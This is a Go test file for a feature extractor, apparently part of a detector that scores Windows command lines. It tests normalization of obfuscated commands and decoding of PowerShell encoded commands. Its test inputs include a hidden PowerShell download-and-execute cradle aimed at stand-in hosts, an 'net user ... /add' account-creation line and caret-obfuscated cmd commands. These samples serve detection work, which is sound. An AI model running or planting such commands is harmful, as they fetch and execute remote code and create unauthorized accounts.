package features

import (
	"bytes"
	"encoding/base64"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"unicode/utf16"

	"scorecmdline/src/internal/race"
)

var update = flag.Bool("update", false, "rewrite testdata/*.golden")

// utf16le encodes s the way PowerShell expects -EncodedCommand.
func utf16le(s string) string {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return base64.StdEncoding.EncodeToString(b)
}

var goldenInputs = []struct {
	name string
	in   Input
}{
	{"plain", Input{Cmdline: []byte(`net user admin P@ss /add`)}},
	{"carets_quotes", Input{Cmdline: []byte(`c^m^d /c "who""ami"`)}},
	{"encoded", Input{Cmdline: []byte(`powershell -nop -EncodedCommand ` + utf16le("IEX (New-Object Net.WebClient).DownloadString('http://1.2.3.4/a')"))}},
	{"structure", Input{Cmdline: []byte("cmd /c \"set a=%COMSPEC:~0,1%&& echo `x` 'a'+'b'\" http://10.0.0.1/x")}},
	{"deobfuscated", Input{
		Cmdline:      []byte(`cmd /c "set x=ne&&set y=t&&call %x%%y% user"`),
		Deobfuscated: []byte(`net user`),
		Techniques:   1<<0 | 1<<5,
		Undone:       30,
		Parent:       []byte(`C:\Windows\explorer.exe`),
		Image:        []byte(`"C:\Windows\System32\cmd.exe"`),
	}},
	{"empty", Input{}},
}

// dump lists every feature of in: group, bucket, value, text.
func dump(in *Input) string {
	x := New(20)
	x.Names = true
	x.Reset(in)
	x.Extract(Set(Word, Bigram, Char, Struct, Context))
	var b strings.Builder
	for g := Group(0); g < NumGroups; g++ {
		for i, bk := range x.Buckets(g) {
			fmt.Fprintf(&b, "%s\t%07d\t%.6f\t%q\n", g, bk, x.Value(g), x.Name(g, i))
		}
	}
	return b.String()
}

func TestGolden(t *testing.T) {
	for _, tt := range goldenInputs {
		t.Run(tt.name, func(t *testing.T) {
			got := fmt.Sprintf("input: %q deob=%q tech=%#x undone=%d parent=%q image=%q\n%s",
				tt.in.Cmdline, tt.in.Deobfuscated, tt.in.Techniques, tt.in.Undone, tt.in.Parent, tt.in.Image, dump(&tt.in))
			golden := filepath.Join("testdata", tt.name+".golden")
			if *update {
				if err := os.WriteFile(golden, []byte(got), 0o644); err != nil {
					t.Fatal(err)
				}
				return
			}
			want, err := os.ReadFile(golden)
			if err != nil {
				t.Fatal(err)
			}
			if got != string(want) {
				t.Errorf("features changed (bump SchemeVersion if intended, then -update)\ngot\n%s\nwant\n%s", got, want)
			}
		})
	}
}

// TestNamesDoNotChangeBuckets: the explain path must see the features the
// fast path scores.
func TestNamesDoNotChangeBuckets(t *testing.T) {
	fast, slow := New(18), New(18)
	slow.Names = true
	for _, tt := range goldenInputs {
		fast.Reset(&tt.in)
		slow.Reset(&tt.in)
		fast.Extract(Set(Word, Struct))
		fast.Extract(Default | Set(Context)) // incremental extraction
		slow.Extract(Default | Set(Context))
		for g := Group(0); g < NumGroups; g++ {
			if !slices.Equal(fast.Buckets(g), slow.Buckets(g)) {
				t.Errorf("%s %s: buckets differ", tt.name, g)
			}
			if len(slow.names[g]) != len(slow.Buckets(g)) {
				t.Errorf("%s %s: %d names for %d buckets", tt.name, g, len(slow.names[g]), len(slow.Buckets(g)))
			}
		}
	}
}

func TestNormalization(t *testing.T) {
	tests := []struct{ a, b string }{
		{`net user`, `N^E^T "user"`},
		{`whoami /all`, "WhoAmI\t/all"},
		{`powershell iex`, "power`shell i'e'x"},
	}
	for _, tt := range tests {
		if da, db := dumpBuckets(tt.a), dumpBuckets(tt.b); !slices.Equal(da, db) {
			t.Errorf("%q and %q should share word, bigram and char features", tt.a, tt.b)
		}
	}
}

func dumpBuckets(s string) []uint32 {
	x := New(20)
	x.Reset(&Input{Cmdline: []byte(s)})
	var out []uint32
	for _, e := range x.AppendVector(nil, Set(Word, Bigram, Char)) {
		out = append(out, e.Bucket)
	}
	return out
}

func TestDecodeEncoded(t *testing.T) {
	payload := utf16le("Write-Host hello world")
	tests := []struct {
		cmd  string
		want string
	}{
		{"powershell -e " + payload, "Write-Host hello world"},
		{"powershell.exe -EnC " + payload, "Write-Host hello world"},
		{"powershell /encodedcommand '" + payload + "'", "Write-Host hello world"},
		{"powershell -ec " + payload, "Write-Host hello world"},
		{"powershell -encodedcommandx " + payload, ""},                                                                            // not a prefix
		{"powershell -exec " + payload, ""},                                                                                       // -exec is -ExecutionPolicy
		{"powershell -e " + payload[:12], ""},                                                                                     // too short
		{"powershell -e " + base64.StdEncoding.EncodeToString([]byte{1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16}), ""}, // not printable
		{"x-e " + payload, ""}, // flag glued to a word
		{"powershell -exec bypass /e " + payload + " -e " + utf16le("second one"), "Write-Host hello world"}, // the first that decodes
	}
	for _, tt := range tests {
		x := New(20)
		x.Reset(&Input{Cmdline: []byte(tt.cmd)}) // finds the candidates
		got := string(x.decodeEncoded([]byte(tt.cmd), x.shape.enc))
		if got != tt.want {
			t.Errorf("decodeEncoded(%q) = %q, want %q", tt.cmd, got, tt.want)
		}
	}
}

func TestStructureHelpers(t *testing.T) {
	ipv4 := map[string]bool{"1.2.3.4": true, "x 10.0.0.1/a": true, "1.2.3": false, "1.2.3.4.5": false, "1234.1.1.1": false, "v1.2.3.4": true,
		".1.2.3.4": false, "1.2.3.4.": false, "x.y 1.2 3.4.5.6 7": true, "9.9.9": false, "a.1": false, "1.": false}
	for s, want := range ipv4 {
		if got := hasIPv4([]byte(s)); got != want {
			t.Errorf("hasIPv4(%q) = %v", s, got)
		}
	}
	if n := concats([]byte(`'a'+'b' + "c"+x`)); n != 2 {
		t.Errorf("concats = %d, want 2", n)
	}
	if !hasURL([]byte("get HTTPS://x")) || hasURL([]byte("c:/x")) {
		t.Error("hasURL")
	}
}

func TestExtractAllocs(t *testing.T) {
	if race.Enabled {
		t.Skip("allocation counts are not meaningful under the race detector")
	}
	x := New(20)
	in := &Input{Cmdline: bytes.Repeat([]byte(`powershell -nop -w hidden -c "iex (new-object net.webclient).downloadstring('http://x/a')" `), 3)}
	x.Reset(in)
	x.Extract(Default)
	if n := testing.AllocsPerRun(100, func() { x.Reset(in); x.Extract(Default) }); n != 0 {
		t.Errorf("Extract allocates %v times per row", n)
	}
}
